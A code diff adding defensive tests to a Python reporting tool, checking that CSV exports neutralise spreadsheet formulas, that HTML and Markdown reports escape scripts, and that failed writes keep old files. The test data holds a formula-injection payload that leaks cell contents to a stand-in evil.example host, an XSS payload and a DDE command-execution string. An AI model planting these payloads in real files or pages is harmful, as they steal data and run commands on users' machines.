@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import contextlib
 import re
 from pathlib import Path
 
@@ -236,3 +237,76 @@ def test_cli_report_monthly(warehouse, tmp_path):
     done = CliRunner().invoke(app, ["report", "monthly", "--period", "2026-03", "--out", str(tmp_path), "--db", url])
     assert done.exit_code == 0, done.output
     assert "html: " in done.output and (tmp_path / "monthly-2026-03.html").is_file()
+
+
+HOSTILE = {"Cyan": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+           "Beta": '<script>alert(1)</script><img src=x onerror="alert(2)">'}
+
+
+def rename_accounts(store: Warehouse, names: dict[str, str]) -> None:
+    accounts = schema.accounts
+    with store.engine.begin() as connection:
+        for old, new in names.items():
+            connection.execute(accounts.update().where(accounts.c.name == old).values(name=new))
+
+
+def test_crm_text_cannot_run_as_a_formula_or_as_html(warehouse, tmp_path):
+    """An account named ``=HYPERLINK(...)`` is text in the tables' CSVs (OWASP: a leading ``'``), numbers stay
+    numbers; a name carrying ``<script>``/``<img onerror>`` is escaped in the Markdown and the HTML report."""
+    rename_accounts(warehouse, HOSTILE)
+    paths = reporting.generate_report(warehouse, "weekly", "2026-W10", tmp_path)
+    misses = pd.read_csv(paths["table:misses"], dtype=str, keep_default_na=False)
+    assert misses["account_name"].tolist() == ["'" + HOSTILE["Cyan"], HOSTILE["Beta"]]
+    assert not misses.map(lambda cell: cell.startswith(("=", "@", "+"))).any().any()
+    assert pd.read_csv(paths["table:four_numbers"]).select_dtypes("number").shape[1] > 0
+    for kind in ("markdown", "html"):
+        text = paths[kind].read_text(encoding="utf-8")
+        assert "<script>" not in text and "<img src=x" not in text, kind
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text, kind
+
+
+INJECTED_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_exports_neutralise_formulas_and_keep_numbers(warehouse, tmp_path):
+    from abm_sla import exports
+
+    mqas = schema.mqas
+    with warehouse.engine.begin() as connection:
+        connection.execute(mqas.update().where(mqas.c.account_id == "A3").values(owner_id=INJECTED_OWNER))
+    exports.export(warehouse, "mqas", tmp_path / "mqas.csv")
+    written = pd.read_csv(tmp_path / "mqas.csv", dtype=str, keep_default_na=False).set_index("account_id")
+    assert written.loc["A3", "owner_id"] == "'" + INJECTED_OWNER
+    assert written.loc["A3", "total"] == "65"
+    safe = exports.spreadsheet_safe(pd.DataFrame({"text": ["-12.5", "+3", "-x", "\tcmd", "\r=1", "ok", None],
+                                                  "number": [-1.5, 2, 3, 4, 5, 6, 7]}))
+    assert safe["text"].tolist() == ["-12.5", "+3", "'-x", "'\tcmd", "'\r=1", "ok", None]
+    assert safe["number"].tolist() == [-1.5, 2, 3, 4, 5, 6, 7]
+
+
+@contextlib.contextmanager
+def disk_full_after(size: int):
+    """Writes past ``size`` bytes of one file fail with EFBIG (as a full disk would fail them with ENOSPC)."""
+    import resource
+    import signal
+
+    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
+    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
+    try:
+        yield
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+        signal.signal(signal.SIGXFSZ, handler)
+
+
+def test_a_report_write_that_fails_leaves_the_last_good_files(warehouse, tmp_path):
+    out = tmp_path / "reports"
+    paths = reporting.generate_report(warehouse, "weekly", "2026-W10", out)
+    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
+    rename_accounts(warehouse, {"Cyan": "Cyan " + "x" * 20_000})  # the new report is longer than the limit
+    report = reporting.build_report(warehouse, "weekly", "2026-W10")
+    with disk_full_after(paths["html"].stat().st_size // 2), pytest.raises(OSError):
+        reporting.write_report(report, out)
+    after = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
+    assert after == before  # the last good report, byte for byte, and no temporary file left
